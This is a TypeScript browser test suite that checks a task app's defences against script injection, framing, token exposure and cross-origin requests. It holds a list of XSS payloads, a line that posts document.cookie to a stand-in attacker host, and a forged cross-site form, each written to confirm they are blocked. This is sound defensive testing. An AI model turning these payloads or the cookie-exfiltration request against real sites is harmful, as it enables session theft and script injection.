import { expect, it } from 'vitest'
import { describeInBrowser, type WatchedPage } from '../helpers/browser.ts'
import { eventually } from '../helpers/eventually.ts'
import { attackerPage } from './attacker-page.ts'
import { inApp, offline, storedApp, takeProblems } from './in-app.ts'
import { add, call, saved, task } from './own-tasks.ts'

/** Texts that would run a script if a page took them for markup, for an address, or for a template. */
const PAYLOADS = [
  '<img src=x onerror="window.pwned=1">',
  '<script>window.pwned=1</script>',
  '"><svg onload=window.pwned=1>',
  '</title><script>window.pwned=1</script>',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<a href="javascript:window.pwned=1">x</a>',
  'javascript:window.pwned=1',
  "{{constructor.constructor('window.pwned=1')()}}",
]

/** Reads everything that the browser has stored for the page, as text. */
const ALL_STORED = `(async () => {
  const wait = (request) => new Promise((done, fail) => { request.onsuccess = () => done(request.result); request.onerror = () => fail(request.error) })
  const texts = [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.cookie]
  for (const { name } of await indexedDB.databases()) {
    const database = await wait(indexedDB.open(name))
    for (const store of database.objectStoreNames) {
      const rows = database.transaction(store).objectStore(store)
      texts.push(JSON.stringify([await wait(rows.getAll()), await wait(rows.getAllKeys())]))
    }
    database.close()
  }
  for (const name of await caches.keys())
    for (const { url } of await (await caches.open(name)).keys()) texts.push(url)
  return texts.join('\\n')
})()`

describeInBrowser('the web app under attack', () => {
  const { openSignedIn, openSignedOut, url } = inApp()

  /** Another site of an attacker is no mistake of the app. */
  function forget({ hosts, problems }: WatchedPage, ...addresses: string[]): void {
    for (const address of addresses) hosts.delete(new URL(address).host)
    problems.length = 0
  }

  it('[W-01] runs no script that is injected into the page, and sends nothing to another host', async () => {
    const watched = await openSignedOut()
    const { page } = watched
    await using attacker = await attackerPage('')
    const blocked = await page.evaluate<string[]>(`(async () => {
      const blocked = []
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.push(effectiveDirective))
      const put = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields))
      put('script', { textContent: 'window.pwned = "inline"' })
      put('script', { src: 'data:text/javascript,window.pwned="data"' })
      put('script', { src: ${JSON.stringify(attacker.crossSite)} })
      put('div', { innerHTML: '<img src=x onerror="window.pwned = 1">' })
      put('style', { textContent: 'body { color: red }' })
      put('iframe', { src: ${JSON.stringify(attacker.crossSite)} })
      put('object', { data: ${JSON.stringify(attacker.crossSite)} })
      put('base', { href: ${JSON.stringify(attacker.crossSite)} })
      setTimeout(() => { try { setTimeout('window.pwned = "string"') } catch {} })
      await fetch(${JSON.stringify(attacker.crossSite)}, { method: 'POST', body: document.cookie }).catch(() => {})
      await new Promise((resolve) => setTimeout(resolve, 100))
      return [...new Set(blocked)].sort()
    })()`)
    expect(await page.evaluate('window.pwned')).toBeUndefined()
    for (const directive of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'connect-src', 'frame-src'])
      expect(blocked).toContain(directive)
    expect(await page.evaluate('document.baseURI')).toContain(url())
    await takeProblems(watched, /Content Security Policy|404/)
    forget(watched, attacker.crossSite)
  })

  it('[W-02] runs the service worker for the app only, under a policy of its own', async () => {
    const watched = await openSignedOut()
    const { page } = watched
    await storedApp(page)
    expect(await page.evaluate('navigator.serviceWorker.ready.then(({ scope }) => scope)')).toBe(`${url()}/app/`)
    const wider =
      'navigator.serviceWorker.register("/app/sw.js", { scope: "/" }).then(() => "done", ({ name }) => name)'
    expect(await page.evaluate(wider)).toBe('SecurityError')
    expect(
      await page.evaluate('navigator.serviceWorker.getRegistration("/").then((found) => found === undefined)'),
    ).toBe(true)
    const policy = await page.evaluate(
      'fetch("/app/sw.js").then(({ headers }) => headers.get("content-security-policy"))',
    )
    expect(policy).toBe("default-src 'none'; connect-src 'self'")
    await takeProblems(watched, /max scope allowed/)
  })

  it('[W-03] stores no response of the API', async () => {
    const watched = await openSignedIn()
    const { page } = watched
    await storedApp(page)
    await add(page, 'Secret plan')
    await saved(page)
    const paths = ['/api/auth/get-session', '/api/auth/token', '/api/v1/info', '/trpc/system.info', '/calendar/x.ics']
    const read = `Promise.all(${JSON.stringify(paths)}.map((path) => fetch(path).then(({ status }) => status, () => 'no answer')))`
    const online = await page.evaluate<unknown[]>(read)
    expect(online.slice(0, 4)).toEqual([200, 200, 200, 200])
    const cached = `Promise.all(${JSON.stringify(paths)}.map((path) => caches.match(path).then((found) => found === undefined)))`
    expect(await page.evaluate(cached)).toEqual(paths.map(() => true))
    await takeProblems(watched, /404/)
    await offline(watched, async () => {
      expect(await page.evaluate(read)).toEqual(paths.map(() => 'no answer'))
    })
    watched.problems.length = 0
  })

  it('[W-04] keeps no token in any storage of the browser', async () => {
    const { page } = await openSignedIn()
    await add(page, 'Buy milk')
    await saved(page)
    const stored = await page.evaluate<string>(ALL_STORED)
    // The tasks are there, so it has looked in the right places.
    expect(stored).toContain('Buy milk')
    const token = await page.evaluate<string>(
      'fetch("/api/auth/token").then((r) => r.json()).then(({ token }) => token)',
    )
    expect(token).toMatch(/^eyJ/)
    expect(stored).not.toMatch(/eyJ[\w-]+\.eyJ/)
    const [session] = (await page.context().cookies()).filter(({ name }) => name.includes('session_token'))
    expect(session).toMatchObject({ httpOnly: true, sameSite: 'Lax' })
    expect(stored).not.toContain(session?.value.split('.')[0] ?? 'no session cookie')
  })

  it('[W-07] is not shown in a frame of another page', async () => {
    const watched = await openSignedIn()
    const { page } = watched
    await using attacker = await attackerPage(`<iframe src="${url()}/app/settings"></iframe>`)
    for (const address of [attacker.sameSite, attacker.crossSite]) {
      await page.goto(address)
      await eventually(() => expect(watched.problems.join()).toMatch(/frame-ancestors/))
      expect(await page.frames()[1]?.locator('#root').count()).toBe(0)
      watched.problems.length = 0
    }
    forget(watched, attacker.sameSite, attacker.crossSite)
  })

  it('[W-08] shows texts that look like scripts as texts, on every screen', async () => {
    const watched = await openSignedIn()
    const { page } = watched
    const today = new Date().toISOString().slice(0, 10)
    const lists = PAYLOADS.map(async (payload) => {
      const { id: listId } = await call<{ id: string }>(watched, 'lists.create', {
        name: payload,
        description: payload,
      })
      await call(watched, 'sections.create', { listId, name: payload })
      const task = { title: payload, description: payload, tags: [payload.slice(0, 64)], listId, due: { date: today } }
      const { id } = await call<{ id: string }>(watched, 'tasks.create', task)
      await call(watched, 'comments.create', { taskId: id, text: payload })
      return { listId, id }
    })
    const made = await Promise.all(lists)
    const [first, second] = made
    if (!first || !second) throw new Error('nothing was created')
    await call(watched, 'tasks.delete', { id: second.id })
    const text = encodeURIComponent(PAYLOADS[0] ?? '')
    for (const path of [
      `lists/${first.listId}?task=${first.id}`,
      ...['today', 'upcoming', 'all', 'trash', 'settings'],
      ...[`search?q=${text}`, `tags/${text}`, `lists/${text}`, `inbox?task=${text}`, `sign-in?next=${text}`],
    ]) {
      await page.goto(`${url()}/app/${path}`)
      await page.getByRole('heading', { level: 1 }).first().waitFor()
      if (path.startsWith('lists/0'))
        await task(page, PAYLOADS[0] ?? '')
          .first()
          .waitFor()
      const found = await page.evaluate(`[window.pwned ?? null, document.querySelectorAll(
        'img[src=x], [onerror], [onload], #root script, iframe, a[href^="javascript:" i]').length]`)
      expect([path, found]).toEqual([path, [null, 0]])
    }
    await page.goto(`${url()}/app/lists/${first.listId}?task=${first.id}`)
    const panel = page.getByRole('complementary', { name: 'Details of the task' })
    await panel
      .getByRole('paragraph')
      .filter({ hasText: PAYLOADS[0] ?? '' })
      .waitFor()
    expect(await page.title()).toContain(PAYLOADS[0])
    expect(await page.evaluate('window.pwned')).toBeUndefined()
    watched.problems.splice(0, Number.POSITIVE_INFINITY, ...watched.problems.filter((one) => /Policy|Error/.test(one)))
  })

  it('[W-10] ignores what a page of another origin sends, and tells it nothing', async () => {
    const watched = await openSignedIn()
    const { page } = watched
    await add(page, 'Mine')
    await saved(page)
    const server = JSON.stringify(url())
    // Of another site: those of this machine are allowed by default, for frontends under development.
    await page.route('http://attacker.example/', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: '<form method="post" enctype="text/plain"><input name="{}"></form>',
      }),
    )
    await page.goto('http://attacker.example/')
    const told = await page.evaluate<unknown[]>(`Promise.all([
      ...['/api/auth/token', '/api/auth/get-session', '/api/v1/tasks', '/trpc/account.me'].map((path) =>
        fetch(${server} + path, { credentials: 'include' }).then((r) => r.text(), () => 'blocked')),
      ...['/api/auth/sign-out', '/api/auth/update-user', '/api/auth/revoke-sessions', '/trpc/account.delete', '/trpc/tasks.emptyTrash'].map((path) =>
        fetch(${server} + path, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"name":"pwned"}' }).then(({ type }) => type, () => 'blocked')),
    ])`)
    expect(told.slice(0, 4)).toEqual(Array(4).fill('blocked'))
    expect(told.slice(4).filter((answer) => answer !== 'blocked' && answer !== 'opaque')).toEqual([])
    // A form needs no permission at all.
    await Promise.all([
      page.waitForURL('**/api/auth/sign-out'),
      page.evaluate(`{ const [form] = document.forms; form.action = ${server} + '/api/auth/sign-out'; form.submit() }`),
    ])
    await page.goto(`${url()}/app/settings`)
    await page.getByRole('heading', { name: 'Settings', level: 1 }).waitFor()
    const session = await page.evaluate<{ user: { name: string } } | null>(
      'fetch("/api/auth/get-session").then((response) => response.json())',
    )
    expect(session?.user.name).toBe('Ada')
    await page.goto(`${url()}/app/today`)
    await task(page, 'Mine').waitFor()
    forget(watched, 'http://attacker.example')
  })
})
